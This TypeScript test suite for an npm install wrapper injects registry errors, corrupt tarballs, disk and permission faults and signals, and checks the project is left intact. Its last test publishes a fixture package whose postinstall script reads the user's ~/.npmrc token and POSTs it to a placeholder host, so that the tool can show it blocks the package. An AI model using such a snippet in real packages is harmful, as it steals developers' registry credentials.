import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { chmod, chown, cp, readdir, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { promisify } from 'node:util'
import t from 'tap'
import type { Test } from 'tap'
import { runCli, runNpm } from '../helpers/cli.ts'
import type { Finished } from '../helpers/cli.ts'
import { nobody, noOtherUser } from '../helpers/machine.ts'
import { makeProject, snapshot } from '../helpers/project.ts'
import type { Project } from '../helpers/project.ts'
import { startRegistry } from '../helpers/registry.ts'
import type { Registry } from '../helpers/registry.ts'
import { strikeEnv } from '../helpers/strike.ts'
import { packFiles } from '../helpers/tarball.ts'

const exec = promisify(execFile)
const root = process.getuid?.() === 0
const otherUser = root && noOtherUser(t.testdir())

const pkg = (name: string, version: string, more: object = {}): string =>
  JSON.stringify({ name, version, ...more })

const publish = (registry: Registry): void => {
  registry.publish({ files: { 'package.json': pkg('old', '1.0.0'), 'index.js': '// old\n' } })
  const dependencies = { second: '1' }
  registry.publish({ files: { 'package.json': pkg('first', '1.0.0', { dependencies }), 'index.js': '' } })
  registry.publish({ files: { 'package.json': pkg('second', '1.0.0'), 'index.js': '// second\n' } })
  // Does not compress: its bytes are the disk's.
  const noise = Array.from({ length: 40_000 }, (_, index) => Math.imul(index, 2_654_435_761).toString(36))
  registry.publish({
    files: { 'package.json': pkg('large', '1.0.0'), 'data.txt': noise.join(''), 'more.txt': noise.join(' ') },
  })
  for (const [name, postinstall] of [
    ['failing', 'echo it broke; exit 3'],
    ['waiting', 'touch ../../started; for i in $(seq 600); do [ -e ../../go ] && break; sleep 0.1; done'],
  ] as const) {
    registry.publish({ files: { 'package.json': pkg(name, '1.0.0', { scripts: { postinstall } }) } })
  }
  for (let index = 0; index < 40; index += 1) {
    const files = Array.from({ length: 20 }, (_, file) => [`${file}.txt`, `${index}`])
    registry.publish({
      files: { 'package.json': pkg(`many-${index}`, '1.0.0'), ...Object.fromEntries(files) },
    })
  }
}

const many = Array.from({ length: 40 }, (_, index) => `many-${index}`)

type Place = { readonly project: Project; readonly registry: Registry; readonly t: Test }

type Fault = {
  readonly name: string
  readonly args?: readonly string[]
  readonly prepare?: (place: Place) => Promise<unknown> | undefined | void
  /** When a signal is sent, or something else happens, while the program runs. */
  readonly when?: (place: Place) => boolean
  readonly happens?: 'SIGINT' | 'SIGTERM' | ((place: Place) => void)
  /** Sends `happens` before the first change of this path in the project: no machine is too fast or too slow for it. */
  readonly before?: string
  readonly code: number
  readonly says: RegExp
  /** The project is not as before. */
  readonly changes?: true
  readonly skip?: string | false
  readonly asNobody?: true
}

const lieAbout =
  (name: string, at: 'packument' | 'tarball', lie: Parameters<Registry['lie']>[2]) =>
  ({ registry }: Place): void =>
    registry.lie(name, { at }, lie)

const asked =
  (kind: 'packument' | 'tarball') =>
  ({ registry }: Place): boolean =>
    registry.count({ kind }) > 0
const inProject =
  (path: string) =>
  ({ project }: Place): boolean =>
    existsSync(join(project.path, path))

const allow = (...names: readonly string[]) => ({
  allowScripts: Object.fromEntries(names.map(name => [`${name}@1.0.0`, true])),
})

const rewrite = async ({ project }: Place, changes: object): Promise<void> => {
  const manifest = JSON.parse(await project.read('package.json'))
  await project.write('package.json', JSON.stringify({ ...manifest, ...changes }, null, 2))
}

/** Gives everything to nobody but takes the right to write into the project away. */
const readOnly = async ({ project, t: test }: Place): Promise<void> => {
  const all = dirname(project.path)
  for (const entry of await readdir(all, { recursive: true }))
    if (root) await chown(join(all, entry), nobody, nobody)
  if (root) await chown(all, nobody, nobody)
  const folders = [project.path, join(project.path, 'node_modules')]
  for (const folder of folders) await chmod(folder, 0o555)
  test.teardown(async () => {
    for (const folder of folders) await chmod(folder, 0o755)
  })
}

/** Puts the project onto a file system with next to no room. */
const tinyDisk = async ({ project, t: test }: Place): Promise<void> => {
  const kept = `${project.path}-kept`
  await cp(project.path, kept, { recursive: true, verbatimSymlinks: true })
  await exec('mount', ['-t', 'tmpfs', '-o', 'size=256k', 'tmpfs', project.path])
  test.teardown(() => exec('umount', [project.path]))
  await cp(kept, project.path, { recursive: true, verbatimSymlinks: true })
}

const mayMount =
  root &&
  (await exec('unshare', ['-m', 'mount', '-t', 'tmpfs', 'tmpfs', tmpdir()]).then(
    () => true,
    () => false,
  ))

const faults: readonly Fault[] = [
  {
    name: 'the registry answers 503 for a packument',
    prepare: lieAbout('second', 'packument', { kind: 'status', status: 503 }),
    code: 1,
    says: /503/,
  },
  {
    name: 'the registry answers 500 for a tarball',
    prepare: lieAbout('second', 'tarball', { kind: 'status', status: 500 }),
    code: 1,
    says: /500/,
  },
  {
    name: 'a tarball of other bytes',
    prepare: lieAbout('second', 'tarball', {
      kind: 'bytes',
      bytes: packFiles({ 'package.json': pkg('second', '1.0.0') }),
    }),
    code: 1,
    says: /expected\s+sha512-[^]*got\s+sha512-/,
  },
  {
    name: 'a tarball that ends too early',
    prepare: lieAbout('second', 'tarball', { kind: 'truncate', after: 40 }),
    code: 1,
    says: /second/,
  },
  {
    name: 'the registry goes away half-way',
    prepare: lieAbout('second', 'tarball', { kind: 'hang' }),
    when: asked('tarball'),
    happens: ({ registry }) => void registry.close(),
    code: 1,
    says: /second/,
  },
  {
    name: 'the disk is full',
    args: ['large'],
    prepare: tinyDisk,
    code: 1,
    says: /ENOSPC[^]*disk is full/,
    skip: !mayMount && 'needs the right to mount',
  },
  {
    name: 'the project is read-only',
    prepare: readOnly,
    asNobody: true,
    skip: otherUser,
    code: 1,
    says: /EACCES[^]*who\s+owns\s+the\s+folder/,
  },
  {
    name: 'Ctrl-C while resolving',
    prepare: lieAbout('second', 'packument', { kind: 'hang' }),
    when: asked('packument'),
    happens: 'SIGINT',
    code: 130,
    says: /^/,
  },
  {
    name: 'Ctrl-C while fetching',
    prepare: lieAbout('second', 'tarball', { kind: 'hang' }),
    when: asked('tarball'),
    happens: 'SIGINT',
    code: 130,
    says: /^/,
  },
  {
    name: 'Ctrl-C while unpacking',
    args: many,
    before: 'node_modules/many-0',
    happens: 'SIGINT',
    code: 130,
    says: /^/,
  },
  {
    name: 'SIGTERM while unpacking',
    args: many,
    before: 'node_modules/many-7/19.txt',
    happens: 'SIGTERM',
    code: 143,
    says: /^/,
  },
  {
    name: 'Ctrl-C while an approved script runs',
    args: ['waiting'],
    prepare: place => rewrite(place, allow('waiting')),
    when: inProject('started'),
    happens: 'SIGINT',
    code: 130,
    says: /^/,
  },
  {
    name: 'an approved script fails',
    args: ['failing', 'first'],
    prepare: place => rewrite(place, allow('failing')),
    code: 1,
    says: /failing@1\.0\.0: postinstall script failed with exit code 3[^]*it broke/,
  },
  {
    name: 'an approved script of an optional package fails',
    args: ['first'],
    prepare: place => rewrite(place, { ...allow('failing'), optionalDependencies: { failing: '1' } }),
    code: 0,
    says: /^/,
    changes: true,
  },
]

const start = async (
  place: Place,
  { args = ['first'], when, happens, before, asNobody }: Fault,
): Promise<Finished> => {
  const act = (kill: (signal: NodeJS.Signals) => void): void => {
    if (when === undefined || happens === undefined) return
    const timer = setInterval(() => {
      if (!when(place)) return
      clearInterval(timer)
      if (typeof happens === 'string') kill(happens)
      else happens(place)
    }, 1)
    place.t.teardown(() => clearInterval(timer))
  }
  const strike =
    before !== undefined && typeof happens === 'string'
      ? { env: strikeEnv({ below: join(place.project.path, before), at: 1, signal: happens }) }
      : {}
  return runCli(place.project, args, {
    onStart: act,
    ...strike,
    ...(asNobody && root ? { uid: nobody } : {}),
  })
}

t.jobs = 2
for (const fault of faults) {
  t.test(fault.name, { buffered: true, skip: fault.skip ?? false }, async t => {
    const registry = await startRegistry(t)
    publish(registry)
    const project = await makeProject(t, registry, { 'package.json': { name: 'p', version: '1.0.0' } })
    const place = { project, registry, t }
    await runNpm(project, ['install', 'old'])
    registry.clearRequests()
    await fault.prepare?.(place)
    // A script of a third party may leave traces; nothing undoes those.
    const state = async () => snapshot(project.path, path => path === 'started')
    const before = await state()
    const { code, signal, stdout, stderr } = await start(place, fault)
    t.equal(signal, null)
    t.equal(code, fault.code, stdout + stderr)
    t.match(stderr, fault.says)
    if (fault.changes) {
      t.ok(existsSync(join(project.path, 'node_modules', 'first')), 'the rest is installed')
      t.notOk(existsSync(join(project.path, 'node_modules', 'failing')), 'and it is dropped')
      t.match(JSON.parse(await project.read('package.json')), { dependencies: { first: '^1.0.0' } })
    } else t.strictSame(await state(), before, 'everything is as before')
  })
}

t.test('two at once: the second says so and does nothing', async t => {
  const registry = await startRegistry(t)
  publish(registry)
  const project = await makeProject(t, registry, {
    'package.json': { name: 'p', version: '1.0.0', ...allow('waiting') },
  })
  const first = runCli(project, ['waiting'])
  while (!existsSync(join(project.path, 'started'))) await new Promise(resolve => setTimeout(resolve, 5))
  const second = await runCli(project, ['old'])
  t.equal(second.code, 1)
  t.match(second.stderr, /another safe-install \(process \d+/)
  t.notOk(existsSync(join(project.path, 'node_modules', 'old')))
  await writeFile(join(project.path, 'go'), '')
  t.equal((await first).code, 0)
  t.strictSame(JSON.parse(await project.read('package.json')).dependencies, { waiting: '^1.0.0' })
})

t.test('a stopped package does not stay in the cache for a later plain npm', async t => {
  const registry = await startRegistry(t)
  publish(registry)
  registry.publish({
    files: {
      'package.json': pkg('stealer', '1.0.0', {
        scripts: { postinstall: 'node s.js' },
        dependencies: { second: '1' },
      }),
      's.js': [
        "const token = require('node:fs').readFileSync(require('node:os').homedir() + '/.npmrc', 'utf8')",
        "fetch('https://collect.invalid/', { method: 'POST', body: token })",
        '',
      ].join('\n'),
    },
  })
  for (const [args, code] of [
    [['stealer'], 10],
    [['--inspect', 'stealer'], 10],
  ] as const) {
    const project = await makeProject(t, registry, { 'package.json': { name: 'p', version: '1.0.0' } })
    const stopped = await runCli(project, args)
    t.equal(stopped.code, code, stopped.stdout)
    t.match(stopped.stdout, /cache/, 'it says so')
    const offline = await runNpm(project, ['install', 'stealer', '--offline', '--ignore-scripts'])
    t.equal(offline.code, 1)
    t.match(offline.stderr, /ENOTCACHED/)
    t.notOk(existsSync(join(project.path, 'node_modules', 'stealer')))
    const again = await runCli(project, args)
    t.equal(again.code, code, 'and it is looked at again, and stopped again')
  }
})
